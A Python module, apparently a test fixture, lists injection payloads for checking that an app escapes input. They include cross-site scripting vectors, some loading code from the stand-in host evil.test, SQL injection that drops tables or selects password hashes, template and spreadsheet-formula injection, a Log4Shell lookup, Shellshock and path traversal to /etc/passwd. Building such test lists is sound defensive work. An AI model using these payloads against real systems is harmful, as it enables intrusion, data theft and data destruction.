"""Texts that break out of a page, a query, a template or a spreadsheet cell where one forgets to quote."""

# What runs a script by itself or by the least touch, and what leads elsewhere or loads from there.
SCRIPTS = (
    "<script>alert(1)</script>",
    "<script src=//evil.test/x.js></script>",
    "<script type=module>import('//evil.test/x.js')</script>",
    "<img src=x onerror=alert(1)>",
    "<img/src=`x`onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><use href=data:image/svg+xml,x#x>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<body onload=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<math><mtext><style><img src=x onerror=alert(1)></style></mtext></math>",
    "<a href=javascript:alert(1)>x</a>",
    "<form action=//evil.test><button>x</button></form>",
    "<base href=//evil.test/>",
    "<meta http-equiv=refresh content='0;url=//evil.test'>",
    "<link rel=stylesheet href=//evil.test/x.css>",
    "<object data=data:text/html,x></object>",
    "<style>@import '//evil.test/x.css';</style>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
)
# The contexts a text may stand in: between tags, in an attribute, in a title, a text area, a script, a comment.
BREAK_OUT = ("", '">', "'>", "</title>", "</textarea>", "</script>", "--><!--")
SQL = (
    "' OR '1'='1",
    "'; DROP TABLE gig; --",
    '" OR ""="',
    "1; DELETE FROM band WHERE 1=1",
    "') UNION SELECT password_hash FROM person --",
    "\\'; SELECT SLEEP(5); #",
    "%' AND 1=0 UNION ALL SELECT NULL --",
    "x%_\\%\\_",
    "admin'/*",
    "0x27204f5220313d31",
)
TEMPLATES = (
    "{{ 7 * 7 }}",
    "{% raw %}",
    "{# x #}",
    "${7*7}",
    "#{7*7}",
    "{{ config.items() }}",
    "{{ ''.__class__.__mro__ }}",
    "%(SECRET_KEY)s",
    "{0.__class__}",
    "<%= 7 * 7 %>",
)
FORMULAS = ("=cmd|' /C calc'!A0", "+1+1", "-2+3", "@SUM(A1)", '=HYPERLINK("//evil.test","x")', "'=x", "=1;=2")
OTHERS = (
    "javascript:alert(1)",
    "JaVaScRiPt&colon;alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "//evil.test",
    "\u202egpj.exe",
    "\u2028alert(1)",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "on\u200berror=alert(1)",
    "]]><script>alert(1)</script>",
    "../../../../etc/passwd",
    "${jndi:ldap://evil.test/x}",
    "() { :; }; echo x",
)
PAYLOADS = (
    *(before + script for script in SCRIPTS for before in BREAK_OUT),
    *(*SQL, *TEMPLATES, *FORMULAS, *OTHERS),
)
